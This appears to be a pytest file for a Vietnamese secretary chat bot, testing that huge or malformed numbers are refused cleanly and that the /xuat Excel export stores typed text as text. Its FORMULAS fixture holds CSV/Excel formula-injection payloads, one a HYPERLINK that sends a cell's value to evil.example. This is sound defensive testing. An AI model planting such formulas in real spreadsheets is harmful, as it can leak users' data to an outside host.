"""Issue 11, hostile input on the secretaries' side: numbers no dossier or unit can carry get
a clean Vietnamese refusal (never the generic apology with a logged traceback), and the /xuat
spreadsheet never turns typed text into an Excel formula."""

from __future__ import annotations

import io
import logging
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from admission.clock import FixedClock
from admission.stages import StepRefused
from handlers.events import Chat, Event, User
from handlers.router import Router
from handlers.secretary import SecretaryFlow
from handlers.stages import parse_step_command
from storage.reviews import Org
from tests.secretary_world import TODAY, World, approved, at, build_world
from tests.test_secretary import only_text, run

HUGE = "99999999999999999999"
TWO_63 = str(2**63)
TOO_LARGE = "quá lớn"


@pytest.fixture
async def world(tmp_path: Path):
    w = await build_world(tmp_path)
    yield w
    await w.db.close()


# -- numbers out of range ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("buoc", HUGE),
        ("buoc", f"#{TWO_63} chibo 15/06/2026"),
        ("buoc", f"hồ sơ {HUGE} guitt cha hôm nay"),
        ("huybuoc", HUGE),
        ("huybuoc", f"#{TWO_63}"),
        ("tinhhinh", f"#{TWO_63}"),
        ("tinhhinh", f"#{HUGE}"),
        ("xuat", f"#{HUGE}"),
        ("chitieu", f"#{HUGE} 150 31/10"),
        ("giobaocao", f"#{TWO_63} 8"),
    ],
)
async def test_ids_no_dossier_or_unit_can_carry_are_refused_cleanly(
    world: World, command: str, args: str
) -> None:
    text = only_text(await run(world, "sec", command, args))
    assert TOO_LARGE in text


@pytest.mark.parametrize(
    "args",
    [
        "1e30 31/10",
        f"{HUGE} 31/10",
        "1.000.000.000.000.000.000.000 31/10",
        f"-{HUGE} 31/10",
        f"nhiệm kỳ 2025-2030 {HUGE}",
        "nhiệm kỳ 2025-2030 1e30",
        f"150 {HUGE}/10",
        f"150 31/10/{HUGE}",
        "² 31/10",  # a digit to str.isdigit(), not to int()
        "nhiệm kỳ 2025-2030 ²",
    ],
)
async def test_targets_out_of_range_are_explained(world: World, args: str) -> None:
    text = only_text(await run(world, "sec", "chitieu", args))
    assert "Chỉ tiêu là số người" in text or "Hạn chưa đọc được" in text or "Nhiệm kỳ" in text
    assert "Đã đặt" not in text


async def test_a_huge_child_number_is_an_unknown_person(world: World) -> None:
    d6 = world.dossiers["D6"]
    await run(world, "sec", "buoc", f"{d6} viettay 18/09/2026")
    text = only_text(await run(world, "sec", "buoc", f"{d6} guitt con {HUGE} 19/09/2026"))
    assert "Chưa rõ người được thẩm tra" in text


@pytest.mark.parametrize(
    "action",
    [
        f"sec:cd:{HUGE}",
        f"sec:cd:-{HUGE}",
        f"sec:un:{TWO_63}",
        f"sec:th:{HUGE}",
        f"sec:xl:{TWO_63}",
        f"sec:wp:{HUGE}:g",
        f"sec:as:{HUGE}:chi_bo",
        f"sec:rc:{HUGE}:chi_bo:20260923",
        "sec:cd:²",
        "sec:cd:12~²",
    ],
)
async def test_forged_buttons_with_huge_numbers_are_refused(world: World, action: str) -> None:
    replies = await run(world, "sec", action=action)
    assert replies and replies[0].text and "Xin lỗi" not in replies[0].text


async def test_through_the_router_nothing_is_logged_as_an_error(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    """The router turns an exception into the generic apology and logs it: none here."""
    router = Router(world.db, FixedClock(at(TODAY)), [SecretaryFlow(chart=False)])
    caplog.set_level(logging.INFO)
    for n, (command, args) in enumerate(
        (("buoc", HUGE), ("tinhhinh", f"#{TWO_63}"), ("chitieu", "1e30"), ("huybuoc", HUGE))
    ):
        event = Event(
            User("tg", "sec", "sec"), Chat("tg", "sec", "private"), "command",
            command=command, text=args, update_key=f"u{n}",
        )  # fmt: skip
        replies = await router.handle(event)
        assert replies and "Xin lỗi" not in replies[0].text
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]


_PIECES = st.sampled_from(
    [*"0123456789/.-# ²٠١٢٣٤٥٦٧٨٩５", "ngày ", "tháng ", "năm ", "chibo ", "guitt ", "con ",
     "hôm nay", "nước ngoài", f" {HUGE}", "e30"]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(_PIECES, max_size=12).map("".join))
def test_whatever_is_typed_after_buoc_is_read_or_refused_in_words(text: str) -> None:
    try:
        parse_step_command(text, TODAY)
    except StepRefused as exc:
        assert exc.message


# -- /xuat: formulas ---------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


async def test_export_writes_typed_text_as_text_never_as_a_formula(world: World) -> None:
    for i, name in enumerate(FORMULAS):
        await approved(world, f"F{i}", world.a1, name, "01/06/2026 01/09/2026 15/09/2026")
    async with world.db.transaction(at(TODAY)) as tx:
        await tx.repo(Org).create_unit("=1+1 Chi bộ", "chi_bo", world.alpha.id)
    replies = await run(world, "sec", "xuat")
    document = replies[0].document
    assert document is not None
    book = load_workbook(io.BytesIO(document.data))
    seen: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix  # Excel's "typed after an apostrophe"
    for name in FORMULAS:
        assert name in seen  # written as it was typed, as text
    # the rows are still what they were: dates stay dates
    sheet = book["Hồ sơ"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == FORMULAS[0])
    approved_on = row[header.index("Ngày duyệt lý lịch")].value
    assert approved_on is not None and approved_on.strftime("%d/%m/%Y") == "15/09/2026"
